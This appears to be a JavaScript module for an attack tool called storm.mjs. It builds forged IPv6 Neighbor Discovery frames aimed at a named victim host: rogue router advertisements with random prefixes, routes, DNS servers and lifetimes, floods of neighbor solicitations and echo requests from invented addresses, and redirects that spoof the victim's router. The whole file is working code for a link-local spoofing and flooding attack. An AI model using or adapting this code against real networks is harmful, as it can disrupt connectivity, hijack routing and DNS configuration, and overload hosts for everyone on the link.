// Frames of Neighbor Discovery (RFC 4861) that no honest host would send, for storm.mjs. They are right in every respect, but for what they claim.

const ECHO_REQUEST = 128;
const ROUTER_ADVERTISEMENT = 134;
const NEIGHBOR_SOLICITATION = 135;
const REDIRECT = 137;

/** The sixteen octets of an IPv6 address in text, without a zone. */
function octetsOf(text) {
  const [head, tail] = text.split("::").map((part) => (part === "" ? [] : part.split(":")));
  const groups =
    tail === undefined ? head : [...head, ...Array(8 - head.length - tail.length).fill("0"), ...tail];
  return groups.flatMap((group) => {
    const value = Number.parseInt(group, 16);
    return [value >> 8, value & 255];
  });
}

/**
 * The kinds of storm.mjs that are IPv6. Each takes the number of the frame, writes it into `frame` and returns its length.
 * @param frame where, @param random thirty-two bits of it, @param checksum of storm.mjs,
 * @param to the victim's MAC address, @param from the attacker's, octets,
 * @param source a router's link-local address, @param destination the victim's address, text.
 */
export function discoveryFrames({ frame, random, checksum, to, from, source, destination }) {
  const view = new DataView(frame.buffer);
  const victim = octetsOf(destination);
  const router = octetsOf(source);
  const allNodes = octetsOf("ff02::1");
  const everybody = [0x33, 0x33, 0, 0, 0, 1];
  const bits32 = (value) => [value >>> 24, (value >>> 16) & 255, (value >>> 8) & 255, value & 255];
  const stranger = (prefix) => [...octetsOf(`${prefix}::`).slice(0, 12), ...bits32(random())];
  const linkAddress = (type) => [type, 1, 2, 0, ...bits32(random())];

  function message(mac, sender, receiver, octets) {
    frame.set([
      ...mac,
      ...from,
      0x86,
      0xdd,
      0x60,
      0,
      0,
      0,
      0,
      octets.length,
      58,
      255,
      ...sender,
      ...receiver,
    ]);
    frame.set(octets, 54);
    view.setUint16(56, 0);
    view.setUint16(56, checksum(22, 54 + octets.length, 58 + octets.length));
    return 54 + octets.length;
  }

  /** A router that is none, with a prefix, a route, a DNS server, an MTU and times of its own. */
  function advertisement() {
    const noise = random();
    const [lifetime, reachable, retransmit] = [bits32(random()), bits32(random()), bits32(random())];
    const prefix = [3, 4, 64, 0xc0, ...bits32(random()), ...bits32(random()), 0, 0, 0, 0];
    const options = [
      ...linkAddress(1),
      ...[5, 1, 0, 0, ...bits32(random())],
      ...[...prefix, 0x20, 1, 0xd, 0xb8, ...bits32(random()), 0, 0, 0, 0, 0, 0, 0, 0],
      ...[
        24,
        2,
        32,
        noise & 0x18,
        ...bits32(random()),
        0x3f,
        0xff,
        noise & 255,
        (noise >>> 8) & 255,
        0,
        0,
        0,
        0,
      ],
      ...[25, 3, 0, 0, ...bits32(random()), ...stranger("2001:db8")],
    ];
    const head = [noise >>> 24, (noise >>> 16) & 0xd8, lifetime[0], lifetime[1], ...reachable, ...retransmit];
    return message(everybody, stranger("fe80"), allNodes, [
      ROUTER_ADVERTISEMENT,
      0,
      0,
      0,
      ...head,
      ...options,
    ]);
  }

  /** Somebody scans: asks for addresses that the victim does not have, or in the name of hosts that there are not, which it has to look for. */
  function solicitation(i) {
    const head = [NEIGHBOR_SOLICITATION, 0, 0, 0, 0, 0, 0, 0];
    switch (i & 3) {
      case 0:
        return message(to, stranger("fd00"), victim, [...head, ...stranger("fd00"), ...linkAddress(1)]);
      case 1:
        return message(to, stranger("fd00"), victim, [...head, ...victim, ...linkAddress(1)]);
      case 2:
        return message(to, stranger("fd00"), victim, [...head, ...victim]);
      default:
        return message(to, stranger("fd00"), victim, [ECHO_REQUEST, 0, 0, 0, ...bits32(i)]);
    }
  }

  /** By the victim's router, or by somebody who is none. */
  function redirect(i) {
    const sender = i & 1 ? router : stranger("fe80");
    const [target, redirected] = [stranger("fe80"), stranger("2001:db8")];
    const body = [REDIRECT, 0, 0, 0, 0, 0, 0, 0, ...target, ...redirected, ...linkAddress(2)];
    return message(to, sender, victim, body);
  }

  return { advertisement, solicitation, redirect };
}
